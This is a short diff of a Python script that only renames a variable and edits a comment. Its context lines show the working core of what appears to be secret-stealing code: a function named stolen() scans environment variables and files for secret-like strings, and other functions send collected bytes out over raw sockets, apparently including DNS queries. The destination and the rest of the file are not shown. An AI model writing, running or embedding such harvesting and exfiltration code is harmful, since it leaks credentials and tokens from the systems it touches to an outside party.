@@ -54,11 +54,11 @@ def places():
 
 
 def stolen():
-    found = set(SECRET.findall(repr(dict(os.environ)).encode()))
+    secrets = set(SECRET.findall(repr(dict(os.environ)).encode()))
     for path in places():
         with contextlib.suppress(OSError):
-            found |= set(SECRET.findall(readable(path)))
-    return sorted(one.decode() for one in found)
+            secrets |= set(SECRET.findall(readable(path)))
+    return sorted(secret.decode() for secret in secrets)
 
 
 def dns_question(words):
@@ -70,7 +70,7 @@ def send(family, kind, address, words):
     with socket.socket(family, kind) as client:
         client.settimeout(2)
         client.connect(address)
-        # Where nobody listens, the kernel may give us the very port that we aim at.
+        # Where no process listens, the kernel may give us the very port that we aim at.
         if family != socket.AF_UNIX and client.getsockname() == client.getpeername():
             raise OSError("nobody is there but we")
         client.sendall(words)
